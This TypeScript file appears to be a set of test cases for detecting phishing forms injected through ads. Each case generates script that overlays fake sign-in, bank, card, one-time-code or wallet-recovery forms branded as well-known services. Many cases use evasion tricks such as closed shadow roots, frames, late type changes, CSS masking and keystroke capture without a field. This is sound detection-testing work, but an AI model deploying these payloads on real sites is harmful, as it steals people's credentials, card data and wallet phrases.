import { type CaseContext, quote } from '../case-context.ts'
import { createEffects } from './effect.ts'

/** The field is always at the same position, so the test finds it without looking into the ad. */
const box = 'position:absolute;left:0;top:0;width:300px;height:240px;background:#fff;color:#000;z-index:5'
const field = 'position:absolute;left:20px;top:80px;width:240px;height:30px;box-sizing:border-box'
const button = 'position:absolute;left:20px;top:140px;width:120px;height:30px'
const page = (title: string, inner: string) => `<div style="${box}"><b>${title}</b>${inner}</div>`
const formTo = (context: CaseContext, title: string, input: string, more = '') =>
  page(
    title,
    `<form action="${context.url('in')}" ${more}>${input.replace('<input', `<input name="v" style="${field}"`)}<button style="${button}">Sign in</button></form>`,
  )
const insert = (markup: string) => `S.insertAdjacentHTML('beforeend',${quote(markup)})`
const password = '<input type="password" placeholder="Password">'

export const phishingForms = createEffects(
  'phishing-form',
  'credential',
  {
    'password field': (context) => insert(formTo(context, 'Sign in to your mail', password)),
    'bank login': (context) =>
      insert(
        formTo(
          context,
          'My Bank: confirm your account',
          '<input type="password" autocomplete="current-password" placeholder="PIN">',
          'method="post"',
        ),
      ),
    'card form': (context) =>
      insert(
        formTo(
          context,
          'Pay 1.00 for delivery',
          '<input autocomplete="cc-number" inputmode="numeric" placeholder="Card number">',
        ),
      ),
    'card form without hints': (context) =>
      insert(formTo(context, 'Card number and CVV', '<input name="cardnumber" placeholder="0000 0000 0000 0000">')),
    'becomes a password field later': (context) =>
      `${insert(formTo(context, 'Apple ID', '<input id="q2" placeholder="Password">'))};setTimeout(function(){document.getElementById('q2').type='password'},80)`,
    'type by attribute': (context) =>
      `${insert(formTo(context, 'Apple ID', '<input id="q3">'))};document.getElementById('q3').setAttribute('type','password')`,
    'password look by style': (context) =>
      insert(
        formTo(context, 'Your password', '<input type="text" placeholder="Password">').replace(
          field,
          `${field};-webkit-text-security:disc`,
        ),
      ),
    'made of elements': (context) =>
      `var b=document.createElement('div'),f=document.createElement('form'),i=document.createElement('input');b.style.cssText='${box}';f.action=${quote(context.url('in'))};i.type='password';i.name='v';i.style.cssText='${field}';b.append('Google: sign in to continue');f.appendChild(i);b.appendChild(f);S.appendChild(b)`,
    'sent by code': (context) =>
      `${insert(page('Session expired. Sign in again', `<input id="q4" type="password" style="${field}"><button style="${button}">Go on</button>`))};document.getElementById('q4').addEventListener('keyup',function(){${context.send('this.value')}})`,
    'sent on change': (context) =>
      `${insert(page('Session expired. Enter your password', `<input id="q5" type="password" style="${field}"><button style="${button}">Go on</button>`))};document.getElementById('q5').onchange=function(){${context.send('this.value')}}`,
    'shadow root': (context) =>
      `var h=document.createElement('div');S.appendChild(h);h.attachShadow({mode:'closed'}).innerHTML=${quote(formTo(context, 'Facebook: log in', password))}`,
    'nested frame': (context) =>
      `var f=document.createElement('iframe');f.style.cssText='position:absolute;left:0;top:0;width:300px;height:240px;border:0;z-index:5';f.srcdoc=${quote(`<body style="margin:0">${formTo(context, 'Sign in', password)}`)};S.appendChild(f)`,
    formaction: (context) =>
      insert(
        page(
          'Outlook: your password has expired',
          `<form><input name="v" type="password" style="${field}"><button formaction="${context.url('in')}" style="${button}">Renew</button></form>`,
        ),
      ),
    'form attribute': (context) =>
      insert(
        page(
          'PayPal: confirm your password',
          `<form id="q6" action="${context.url('in')}"></form><input form="q6" name="v" type="password" style="${field}"><button form="q6" style="${button}">Confirm</button>`,
        ),
      ),
    'one-time code': (context) =>
      insert(
        formTo(
          context,
          'Enter the code we sent to your phone',
          '<input autocomplete="one-time-code" placeholder="6-digit code">',
        ),
      ),
    'seed phrase': (context) =>
      insert(formTo(context, 'Connect your wallet', '<input placeholder="Recovery phrase (12 words)">')),
    'into the page': (context) => insert(formTo(context, 'Sign in', password, 'target="_top" method="post"')),
    'keys without a field': (context) =>
      `${insert(page('Enter your PIN', `<div id="q7" tabindex="0" style="${field};border:1px solid"></div>`))};var b='';document.getElementById('q7').addEventListener('keydown',function(e){if(e.key.length===1){b+=e.key;this.textContent+='*'}b.length>9&&(function(){${context.send('b')}})()})`,
    'editable box': (context) =>
      `${insert(page('Your e-mail password', `<div id="q8" contenteditable="true" style="${field};-webkit-text-security:disc;border:1px solid"></div>`))};document.getElementById('q8').addEventListener('input',function(){${context.send('this.textContent')}})`,
    'label by generated content': (context) =>
      insert(
        page(
          '',
          `<style>#q9::before{content:"Pass" "word"}</style><form action="${context.url('in')}"><p id="q9"></p><input name="v" style="${field};-webkit-text-security:circle"><button style="${button}">Sign in</button></form>`,
        ),
      ),
    'label as a picture': (context) =>
      insert(
        page(
          '',
          `<img width="200" height="40" src="data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg'%3E%3Ctext y='20'%3EEnter your password%3C/text%3E%3C/svg%3E"><form action="${context.url('in')}"><input name="v" style="${field};-webkit-text-security:square"><button style="${button}">OK</button></form>`,
        ),
      ),
    'letters in elements': (context) =>
      insert(formTo(context, [...'Password'].map((sign) => `<i>${sign}</i>`).join(''), '<input autocomplete="off">')),
    'German card form': (context) =>
      insert(formTo(context, 'Zollgeb&uuml;hr 1,99 bezahlen', '<input placeholder="Kartennummer">')),
    'French login': (context) => insert(formTo(context, 'Votre banque', '<input placeholder="Mot de passe">')),
    'Spanish login': (context) => insert(formTo(context, 'Su banco', '<input placeholder="Contrase&ntilde;a">')),
    'text area for a seed phrase': (context) =>
      insert(
        page(
          'Wallet',
          `<form action="${context.url('in')}" method="post"><textarea name="v" placeholder="Enter your 12 word secret phrase" style="${field}"></textarea><button style="${button}">Restore</button></form>`,
        ),
      ),
    'type by an attribute node': (context) =>
      `${insert(formTo(context, 'Account', '<input id="q10">'))};var n=document.createAttribute('type');n.value='pass'+'word';document.getElementById('q10').setAttributeNode(n)`,
    'copy of the field of the page': (context) =>
      `${insert(formTo(context, 'Sign in again', '<input id="q11">'))};var o=document.getElementById('q11'),n=document.importNode(D.getElementById('password'),true);n.id='q11';n.name='v';n.style.cssText=${quote(field)};o.replaceWith(n)`,
    'field in an SVG': (context) =>
      insert(
        `<svg width="300" height="240" style="position:absolute;left:0;top:0;z-index:5"><foreignObject width="300" height="240">${formTo(context, 'Sign in', password)}</foreignObject></svg>`,
      ),
    'custom element': (context) =>
      `var n='x-'+Math.random().toString(36).slice(2);customElements.define(n,class extends HTMLElement{connectedCallback(){this.attachShadow({mode:'closed'}).innerHTML=${quote(formTo(context, 'Sign in', password))}}});S.appendChild(document.createElement(n))`,
    'popover with a form': (context) =>
      `var p=document.createElement('div');p.popover='manual';p.style.cssText='margin:0;border:0;padding:0;background:none';p.innerHTML=${quote(formTo(context, 'Sign in', password))};S.appendChild(p);p.showPopover()`,
    'set as html': (context) =>
      `S.innerHTML=${quote(formTo(context, 'Netflix: update your payment', '<input autocomplete="cc-number" placeholder="Card number">'))}`,
  },
  { isNeverAllowed: true, isInPlace: true, isEarly: true },
)
